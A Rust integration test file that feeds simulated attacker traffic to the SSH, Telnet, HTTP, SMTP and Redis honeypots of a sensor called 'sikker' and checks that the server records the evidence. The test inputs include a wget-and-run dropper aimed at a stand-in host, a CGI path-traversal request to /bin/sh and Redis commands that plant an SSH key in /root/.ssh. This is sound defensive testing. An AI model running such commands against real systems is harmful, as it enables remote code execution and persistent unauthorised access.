//! `sikker sensor` against a real in-process server: real SSH (russh
//! client), Telnet, SMTP and Redis over raw TCP, HTTP over reqwest; the
//! evidence must show up in the lookups. Clients connect from 127.0.0.N and
//! the sensor's test-only peer map turns that into 45.0.0.N, because the
//! ingest rightly refuses loopback sources. Also: garbage, floods,
//! half-open connections, a server outage, and `serve --demo`.

use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::path::Path;
use std::sync::Arc;
use std::time::{Duration, Instant};

use reqwest::StatusCode;
use serde_json::Value;
use sikker::domain::Protocol;
use sikker::sensor::{self, Limits, PeerMap, SensorHandle, Service, Settings, Stats};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};

use crate::common::{TestServer, cert_pem};

struct Rig {
    s: TestServer,
    key: String,
    token: String,
    spool: tempfile::TempDir,
}

impl Rig {
    async fn start() -> Self {
        let s = TestServer::start().await;
        let key = s
            .handle()
            .services
            .create_api_key("tests", "free", None)
            .await
            .unwrap()
            .0;
        let token = s.handle().services.create_sensor("vps-1").await.unwrap().0;
        Self {
            s,
            key,
            token,
            spool: tempfile::tempdir().unwrap(),
        }
    }

    fn settings(&self, server: String, limits: Limits) -> Settings {
        let any = SocketAddr::from(([127, 0, 0, 1], 0));
        Settings {
            server,
            token: self.token.clone(),
            ca_pem: Some(cert_pem(&self.s.data_dir, &self.s.config)),
            spool_dir: self.spool.path().to_path_buf(),
            spool_max_bytes: 64 * 1024 * 1024,
            batch_size: 50,
            flush_interval: Duration::from_millis(100),
            ssh_banner: "SSH-2.0-OpenSSH_8.9p1".into(),
            listeners: vec![
                (Service::Ssh, any),
                (Service::Telnet, any),
                (Service::Http, any),
                (Service::Smtp, any),
                (Service::Redis, any),
                (Service::Tcp(Protocol::Mysql), any),
                (Service::Tcp(Protocol::Docker), any),
            ],
            limits,
        }
    }

    async fn sensor(&self, limits: Limits) -> SensorHandle {
        let settings = self.settings(self.s.url(""), limits);
        sensor::start_with_peer_map(settings, self.s.clock.clone(), loopback_as_public())
            .await
            .unwrap()
    }

    async fn get(&self, path: &str) -> reqwest::Response {
        self.s
            .client
            .get(self.s.url(path))
            .bearer_auth(&self.key)
            .send()
            .await
            .unwrap()
    }

    /// Polls `path` until `ok` holds (bounded: 15 s).
    async fn eventually(&self, path: &str, ok: impl Fn(&Value) -> bool) -> Value {
        let deadline = Instant::now() + Duration::from_secs(15);
        loop {
            let r = self.get(path).await;
            let status = r.status();
            let v: Value = r.json().await.unwrap_or(Value::Null);
            if status == StatusCode::OK && ok(&v) {
                return v;
            }
            assert!(
                Instant::now() < deadline,
                "{path} never matched; last: {status} {v}"
            );
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    }
}

fn quick() -> Limits {
    Limits {
        idle_timeout: Duration::from_secs(2),
        ..Limits::default()
    }
}

/// 127.0.0.N → 45.0.0.N: the test stands in for public attackers.
fn loopback_as_public() -> PeerMap {
    PeerMap::new(|a: SocketAddr| match a.ip() {
        IpAddr::V4(v4) if v4.is_loopback() => IpAddr::V4(Ipv4Addr::new(45, 0, 0, v4.octets()[3])),
        other => other,
    })
}

async fn connect_from(n: u8, to: SocketAddr) -> TcpStream {
    let s = TcpSocket::new_v4().unwrap();
    s.bind(SocketAddr::from(([127, 0, 0, n], 0))).unwrap();
    s.connect(to).await.unwrap()
}

/// Sends `lines` one by one, reading whatever answer comes after each.
async fn talk(stream: &mut TcpStream, lines: &[&str]) -> String {
    let mut all = String::new();
    let mut buf = vec![0u8; 8192];
    for l in lines {
        stream.write_all(l.as_bytes()).await.unwrap();
        stream.write_all(b"\r\n").await.unwrap();
        if let Ok(Ok(n)) =
            tokio::time::timeout(Duration::from_millis(300), stream.read(&mut buf)).await
        {
            all.push_str(&String::from_utf8_lossy(&buf[..n]));
        }
    }
    all
}

fn names(v: &Value, field: &str) -> Vec<String> {
    v[field]
        .as_array()
        .map(|a| {
            a.iter()
                .map(|b| b["name"].as_str().unwrap_or_default().to_owned())
                .collect()
        })
        .unwrap_or_default()
}

fn has_behavior(name: &'static str) -> impl Fn(&Value) -> bool {
    move |v| names(v, "behaviors").iter().any(|n| n == name)
}

struct Client;

impl russh::client::Handler for Client {
    type Error = russh::Error;

    async fn check_server_key(
        &mut self,
        _key: &russh::keys::PublicKeyOrCertificate,
    ) -> Result<bool, Self::Error> {
        Ok(true)
    }
}

async fn ssh_session(addr: SocketAddr) -> String {
    let stream = connect_from(2, addr).await;
    let config = Arc::new(russh::client::Config::default());
    let mut h = russh::client::connect_stream(config, stream, Client)
        .await
        .unwrap();
    let first = h
        .authenticate_password("Oracle", "hunter2-secret")
        .await
        .unwrap();
    assert!(!first.success(), "the first attempt is always refused");
    let second = h
        .authenticate_password("root", "hunter2-secret")
        .await
        .unwrap();
    assert!(second.success(), "the second attempt lets the bot in");
    let mut ch = h.channel_open_session().await.unwrap();
    ch.exec(true, "uname -a; cat /proc/cpuinfo").await.unwrap();
    let mut out = Vec::new();
    while let Some(msg) = tokio::time::timeout(Duration::from_secs(5), ch.wait())
        .await
        .unwrap()
    {
        if let russh::ChannelMsg::Data { data } = msg {
            out.extend_from_slice(&data);
        }
    }
    let _ = h
        .disconnect(russh::Disconnect::ByApplication, "", "en")
        .await;
    String::from_utf8_lossy(&out).into_owned()
}

#[tokio::test]
async fn every_honeypot_produces_evidence_on_the_server() {
    let r = Rig::start().await;
    let h = r.sensor(quick()).await;
    let at = |s| h.addr(s).unwrap();

    // SSH: real handshake, two password attempts, one command.
    let out = ssh_session(at(Service::Ssh)).await;
    assert!(out.contains("Linux web01"), "{out}");
    let v = r
        .eventually("/v1/key/check/45.0.0.2", |v| {
            v["totalEvents"].as_u64() >= Some(4)
        })
        .await;
    assert!(names(&v, "behaviors").contains(&"recon".to_owned()), "{v}");
    let v = r.eventually("/v1/key/username/oracle", |_| true).await;
    assert_eq!(v["username"], "oracle");

    // Telnet: a failed then a "successful" login, then a dropper.
    let mut t = connect_from(3, at(Service::Telnet)).await;
    let said = talk(
        &mut t,
        &[
            "admin",
            "x",
            "root",
            "vizxv",
            "cd /tmp; wget http://203.0.113.9/m.sh; chmod +x m.sh; ./m.sh",
            "exit",
        ],
    )
    .await;
    assert!(
        said.contains("Login incorrect") && said.contains("$ "),
        "{said}"
    );
    r.eventually("/v1/key/check/45.0.0.3", has_behavior("malware_download"))
        .await;

    // HTTP: reqwest for an ordinary probe, raw TCP for a traversal that a
    // URL library would normalise away.
    let http = reqwest::Client::builder()
        .local_address(IpAddr::from([127, 0, 0, 4]))
        .build()
        .unwrap();
    let resp = http
        .get(format!("http://{}/.env", at(Service::Http)))
        .header("user-agent", "zgrab/0.x")
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::OK);
    let mut raw = connect_from(4, at(Service::Http)).await;
    raw.write_all(
        b"POST /cgi-bin/../../../../bin/sh HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n\r\nhello",
    )
    .await
    .unwrap();
    let mut answer = String::new();
    raw.read_to_string(&mut answer).await.unwrap();
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    let v = r
        .eventually("/v1/key/check/45.0.0.4", has_behavior("exploit_attempt"))
        .await;
    assert!(
        names(&v, "behaviors").contains(&"web_scan".to_owned()),
        "{v}"
    );

    // SMTP: HELO, AUTH, a relay attempt and a message.
    let mut m = connect_from(5, at(Service::Smtp)).await;
    let said = talk(
        &mut m,
        &[
            "EHLO spam.example",
            "AUTH PLAIN AGFsaWNlAHMzY3JldA==",
            "MAIL FROM:<Boss@Spammer.Example>",
            "RCPT TO:<victim@target.example>",
            "DATA",
            "Subject: hi\r\n\r\nbuy now\r\n.",
            "QUIT",
        ],
    )
    .await;
    assert!(said.contains("354") && said.contains("221"), "{said}");
    r.eventually("/v1/key/email/boss@spammer.example", |v| {
        v["totalMessages"] == 1
    })
    .await;
    r.eventually("/v1/key/email/victim@target.example", |_| true)
        .await;
    r.eventually("/v1/key/username/alice", |_| true).await;
    r.eventually("/v1/key/check/45.0.0.5", has_behavior("spam_relay"))
        .await;

    // Redis: RESP commands planting an SSH key.
    let mut red = connect_from(6, at(Service::Redis)).await;
    let resp_cmd = |args: &[&str]| {
        let mut s = format!("*{}\r\n", args.len());
        for a in args {
            s.push_str(&format!("${}\r\n{a}\r\n", a.len()));
        }
        s
    };
    for c in [
        resp_cmd(&["AUTH", "redis-secret"]),
        resp_cmd(&["CONFIG", "SET", "dir", "/root/.ssh"]),
        resp_cmd(&["CONFIG", "SET", "dbfilename", "authorized_keys"]),
        resp_cmd(&["PING"]),
    ] {
        red.write_all(c.as_bytes()).await.unwrap();
    }
    let mut buf = [0u8; 1024];
    let mut got = String::new();
    while !got.contains("+PONG") {
        let n = tokio::time::timeout(Duration::from_secs(5), red.read(&mut buf))
            .await
            .unwrap()
            .unwrap();
        assert!(n > 0, "redis closed early: {got}");
        got.push_str(&String::from_utf8_lossy(&buf[..n]));
    }
    assert!(got.starts_with("-WRONGPASS"), "{got}");
    r.eventually(
        "/v1/key/check/45.0.0.6",
        has_behavior("persistence_attempt"),
    )
    .await;

    // One address touching every listener is a port scan.
    for (_, addr) in &h.addrs {
        drop(connect_from(7, *addr).await);
    }
    let v = r
        .eventually("/v1/key/check/45.0.0.7", has_behavior("port_scan"))
        .await;
    assert!(v["totalSessions"].as_u64() >= Some(5), "{v}");

    // Passwords never leave the sensor: not in the spool, not in the database.
    h.shutdown().await;
    let mut stores = vec![std::fs::read(r.s.data_dir.join("sikker.redb")).unwrap_or_default()];
    for e in std::fs::read_dir(r.spool.path()).unwrap() {
        stores.push(std::fs::read(e.unwrap().path()).unwrap());
    }
    assert!(stores[0].len() > 1000, "the database file was read");
    for bytes in stores {
        let text = String::from_utf8_lossy(&bytes);
        for secret in ["hunter2-secret", "vizxv", "s3cret", "redis-secret"] {
            assert!(!text.contains(secret), "a password was stored: {secret}");
        }
    }
}

#[tokio::test]
async fn garbage_floods_and_half_open_connections_do_not_hurt() {
    let r = Rig::start().await;
    let h = r
        .sensor(Limits {
            max_connections: 20,
            idle_timeout: Duration::from_secs(1),
            max_line: 1024,
            ..Limits::default()
        })
        .await;
    let mut junk = vec![0u8; 256 * 1024];
    for (i, b) in junk.iter_mut().enumerate() {
        *b = u8::try_from((i * 7919) % 251).unwrap();
    }
    // Binary junk, an oversized line and a half-open connection on every listener.
    let mut half_open = Vec::new();
    for (_, addr) in &h.addrs {
        let mut s = connect_from(8, *addr).await;
        let _ = s.write_all(&junk).await;
        drop(s);
        let mut s = connect_from(8, *addr).await;
        let _ = s.write_all(&vec![b'A'; 2 * 1024 * 1024]).await;
        drop(s);
        half_open.push(connect_from(8, *addr).await);
    }
    // A bounded flood: 200 connections against a cap of 20.
    let smtp = h.addr(Service::Smtp).unwrap();
    let mut flood = Vec::new();
    for _ in 0..200 {
        if let Ok(s) = TcpStream::connect(smtp).await {
            flood.push(s);
        }
    }
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert!(
        Stats::get(&h.stats.connections_refused) > 0,
        "the connection cap was enforced"
    );
    drop(flood);
    drop(half_open);
    // Idle clients are timed out; once they are gone a real session works.
    tokio::time::sleep(Duration::from_millis(1500)).await;
    let mut m = connect_from(9, smtp).await;
    let said = talk(
        &mut m,
        &["HELO x.example", "MAIL FROM:<after@flood.example>", "QUIT"],
    )
    .await;
    assert!(said.starts_with("220") && said.contains("221"), "{said}");
    r.eventually("/v1/key/email/after@flood.example", |_| true)
        .await;
    // What could be recorded from the junk was recorded.
    r.eventually("/v1/key/check/45.0.0.8", |v| {
        v["totalSessions"].as_u64() >= Some(7)
    })
    .await;
    assert_eq!(
        Stats::get(&h.stats.batches_rejected),
        0,
        "nothing unshippable was spooled"
    );
    h.shutdown().await;
}

#[tokio::test]
async fn loopback_sources_are_never_shipped_without_the_test_map() {
    let r = Rig::start().await;
    let settings = r.settings(r.s.url(""), quick());
    let h = sensor::start(settings, r.s.clock.clone()).await.unwrap();
    let mut m = TcpStream::connect(h.addr(Service::Smtp).unwrap())
        .await
        .unwrap();
    talk(
        &mut m,
        &["HELO a.example", "MAIL FROM:<x@loop.example>", "QUIT"],
    )
    .await;
    let deadline = Instant::now() + Duration::from_secs(5);
    while Stats::get(&h.stats.events_non_public) < 2 {
        assert!(Instant::now() < deadline, "events were not seen");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert_eq!(Stats::get(&h.stats.events_recorded), 0);
    h.shutdown().await;
    assert_eq!(
        r.get("/v1/key/email/x@loop.example").await.status(),
        StatusCode::NOT_FOUND
    );
}

fn spooled(dir: &Path) -> String {
    let mut all = String::new();
    for e in std::fs::read_dir(dir).unwrap() {
        let p = e.unwrap().path();
        if p.extension().is_some_and(|x| x == "ndjson") {
            all.push_str(&std::fs::read_to_string(p).unwrap());
        }
    }
    all
}

#[tokio::test]
async fn a_server_outage_loses_nothing() {
    let r = Rig::start().await;
    // A port where nothing listens stands in for the server being down.
    let dead = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let down = format!("https://127.0.0.1:{}", dead.local_addr().unwrap().port());
    drop(dead);
    let h = sensor::start_with_peer_map(
        r.settings(down, quick()),
        r.s.clock.clone(),
        loopback_as_public(),
    )
    .await
    .unwrap();
    let mut m = connect_from(10, h.addr(Service::Smtp).unwrap()).await;
    talk(
        &mut m,
        &["HELO a.example", "MAIL FROM:<kept@outage.example>", "QUIT"],
    )
    .await;
    let deadline = Instant::now() + Duration::from_secs(10);
    while Stats::get(&h.stats.ship_failures) == 0 {
        assert!(Instant::now() < deadline, "the shipper never tried");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    h.shutdown().await;
    assert!(
        spooled(r.spool.path()).contains("kept@outage.example"),
        "spooled on disk"
    );
    assert_eq!(
        r.get("/v1/key/email/kept@outage.example").await.status(),
        StatusCode::NOT_FOUND
    );

    // The server is back: a restarted sensor delivers the spool and deletes it.
    let h = r.sensor(quick()).await;
    r.eventually("/v1/key/email/kept@outage.example", |v| {
        v["totalMessages"] == 1
    })
    .await;
    let deadline = Instant::now() + Duration::from_secs(5);
    while !spooled(r.spool.path()).is_empty() {
        assert!(
            Instant::now() < deadline,
            "acknowledged segments were not removed"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    h.shutdown().await;
}

/// Writes sealed spool segment `seq` of `n` SSH attempts from 27.1.x.y,
/// each its own session, ending `ts_ms` and going back a millisecond each.
fn segment(dir: &Path, seq: u64, n: usize, ts_ms: i64, first: usize) {
    let mut body = String::new();
    for i in first..first + n {
        let ip = format!("27.1.{}.{}", i / 250, 1 + i % 250);
        let ts = ts_ms - i64::try_from(i).unwrap();
        body.push_str(&format!(
            "{{\"ts\":{ts},\"src_ip\":\"{ip}\",\"protocol\":\"ssh\",\"dst_port\":22,\"session_id\":\"b{i}\",\"kind\":\"auth\",\"username\":\"root\"}}\n"
        ));
    }
    std::fs::write(dir.join(format!("{seq:016}.ndjson")), body).unwrap();
}

async fn until(what: &str, ok: impl Fn() -> bool) {
    let deadline = Instant::now() + Duration::from_secs(20);
    while !ok() {
        assert!(Instant::now() < deadline, "{what}");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

#[tokio::test]
async fn a_spooled_backlog_goes_in_few_posts_and_a_bad_segment_alone_is_set_aside() {
    let r = Rig::start().await;
    let now = r.s.clock.now().0;
    // 25 segments of 500 events waiting, as after an outage: two posts
    // (10,000 events, then 2,500), not 25.
    for seq in 1..=25 {
        segment(
            r.spool.path(),
            seq,
            500,
            now,
            usize::try_from(seq - 1).unwrap() * 500,
        );
    }
    let h = r.sensor(quick()).await;
    until("the backlog was not delivered", || {
        Stats::get(&h.stats.events_shipped) == 12_500
    })
    .await;
    assert_eq!(Stats::get(&h.stats.batches_shipped), 2, "posts");
    until("delivered segments were not removed", || {
        spooled(r.spool.path()).is_empty()
    })
    .await;
    h.shutdown().await;
    let sensors = r.s.handle().services.list_sensors().await.unwrap();
    assert_eq!(sensors[0].events, 12_500, "every event stored");
    // The last event of the backlog, as any client sees it.
    r.eventually("/v1/key/check/27.1.49.250", |v| v["totalEvents"] == 1)
        .await;

    // A bad event in the middle one of three: the combined post is
    // refused, and the segments go one by one; only the bad one is kept
    // aside, the others are delivered.
    segment(r.spool.path(), 101, 100, now, 20_000);
    segment(r.spool.path(), 102, 100, now, 20_100);
    let bad = r.spool.path().join(format!("{:016}.ndjson", 102));
    let text = std::fs::read_to_string(&bad).unwrap();
    std::fs::write(&bad, text.replacen("\"ssh\"", "\"carrier-pigeon\"", 1)).unwrap();
    segment(r.spool.path(), 103, 100, now, 20_200);
    let h = r.sensor(quick()).await;
    until("the good segments were not delivered", || {
        Stats::get(&h.stats.events_shipped) == 200
    })
    .await;
    assert_eq!(Stats::get(&h.stats.batches_shipped), 2);
    assert_eq!(Stats::get(&h.stats.batches_rejected), 1);
    until("the bad segment was not set aside", || {
        r.spool
            .path()
            .join(format!("{:016}.rejected", 102))
            .exists()
    })
    .await;
    h.shutdown().await;
    assert!(spooled(r.spool.path()).is_empty());
    let sensors = r.s.handle().services.list_sensors().await.unwrap();
    assert_eq!(sensors[0].events, 12_700);
}

#[tokio::test]
async fn serve_demo_fills_a_fresh_data_dir_through_the_ingest() {
    let started = Instant::now();
    let s = TestServer::start_with(&["--demo"]).await;
    let took = started.elapsed();
    let services = &s.handle().services;
    assert!(
        services.indicator_count() >= 3000,
        "{}",
        services.indicator_count()
    );
    let sensors = services.list_sensors().await.unwrap();
    assert_eq!(sensors.len(), 1);
    assert_eq!(sensors[0].name, "demo (synthetic data)");
    assert!(sensors[0].events > 10_000, "{}", sensors[0].events);
    let key = services.create_api_key("t", "free", None).await.unwrap().0;
    let get = |p: &str| s.client.get(s.url(p)).bearer_auth(&key).send();
    let v: Value = get("/v1/key/check/11.0.0.1")
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(v["found"], true, "{v}");
    assert_eq!(
        get("/v1/key/username/root").await.unwrap().status(),
        StatusCode::OK
    );
    eprintln!(
        "demo seeded {} indicators in {took:?}",
        services.indicator_count()
    );

    // A data dir that already exists is left alone.
    let (dir, data) = s.into_dirs().await;
    let s = TestServer::start_in(dir, data, &["--demo"]).await;
    assert_eq!(s.handle().services.list_sensors().await.unwrap().len(), 1);
    assert!(
        s.handle()
            .warnings
            .iter()
            .any(|w| w.contains("--demo ignored"))
    );
}
